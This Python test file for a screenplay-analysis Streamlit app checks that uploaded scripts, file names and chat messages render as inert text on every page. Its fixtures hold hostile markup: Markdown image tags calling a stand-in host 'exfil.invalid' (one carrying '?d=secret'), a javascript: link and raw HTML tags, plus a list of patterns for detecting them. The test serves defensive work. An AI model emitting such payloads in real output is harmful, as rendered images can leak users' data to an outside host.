"""Text from a file, a user or a model is shown as text on every page (issue 16 item 2): a screenplay, a file
name and a chat message carrying Markdown images, links, bare URLs and HTML produce no link and no image anywhere.
The browser journey (tests/e2e) checks the same page by page with a count of outside requests."""

from __future__ import annotations

import re
from typing import Any

from streamlit.testing.v1 import AppTest

from cortexreel.domain.users import LOCAL_USER
from cortexreel.services import scripts
from cortexreel.ui.services import get_services
from tests.ui.conftest import open_app, wait_completed

HOST = "exfil.invalid"
HOSTILE_NAME = f"![f](x.png) [n](www.{HOST}) [j](javascript:alert(1)).fountain"
HOSTILE_SCRIPT = f"""Title: Leak ![t](http://{HOST}/title.png)
Author: Someone

INT. LAB ![h](http://{HOST}/heading.png) - NIGHT

Maya reads [the file](http://{HOST}/link) at http://{HOST}/bare and www.{HOST} <img src="http://{HOST}/raw.png">

MAYA
Send it to ![d](http://{HOST}/leak.png?d=secret) :red[now] $x$

EXT. ROOF [click](https://{HOST}/roof) - NIGHT

Maya stands on the ledge with a gun. **Bold** _lean_ `code` <a href="http://{HOST}/a">a</a>

MAYA
Jump.
"""
# Markup that would fetch or link, looked for in what is left unescaped.
MARKUP = ("![", "](http", "](www", "](javascript", "<img", "<a ")
# Bare addresses that GFM links even when escaped, looked for in the text as shown.
AUTOLINKS = (f"://{HOST}", f"www.{HOST}")


def _rendered_texts(app: AppTest) -> list[str]:
    kinds = ("markdown", "caption", "title", "header", "subheader", "success", "error", "warning", "info", "toast")
    texts: list[str] = []
    for kind in kinds:
        elements: Any = app.get(kind)
        texts.extend(str(element.value) for element in elements)
    return texts


def _assert_inert(app: AppTest, page: str) -> None:
    assert not app.exception, (page, app.exception)
    texts = _rendered_texts(app)
    # A backslash-escaped character is literal in Markdown, so only what is left unescaped can become markup.
    markup = [(text, m) for text in texts for m in MARKUP if m in re.sub(r"\\.", "", text)]
    autolinks = [(text, m) for text in texts for m in AUTOLINKS if m in re.sub(r"\\(.)", r"\1", text)]
    live = markup + autolinks
    assert not live, (page, live)


def test_hostile_script_name_and_chat_are_text_on_every_page() -> None:
    app = open_app("pages/upload.py")
    uploader: Any = app.get("file_uploader")[0]
    uploader.set_value([(HOSTILE_NAME, HOSTILE_SCRIPT.encode(), "text/plain")])
    app.run()
    app.button(key="start_upload").click().run()
    _assert_inert(app, "upload")
    (script,) = scripts.list_scripts(get_services(), LOCAL_USER)
    wait_completed(script.id)
    # The hostile text really is in the library (title, file name, scenes), so every page below shows some of it.
    assert HOST in script.title and HOST in script.filename

    for page in ("pages/home.py", "pages/scenes.py", "pages/insights.py", "pages/export.py"):
        _assert_inert(open_app(page, script_id=script.id), page)

    search = open_app("pages/search.py", script_id=script.id)
    search.text_input(key="search_query").set_value("Maya reads the file").run()
    assert any("Scene 1" in text for text in _rendered_texts(search))
    _assert_inert(search, "search")

    chat = open_app("pages/chat.py", script_id=script.id)
    chat.chat_input[0].set_value(f"which scenes mention ![c](http://{HOST}/chat.png)?").run()
    chat.chat_input[0].set_value("which scenes have a gun?").run()
    _assert_inert(chat, "chat")
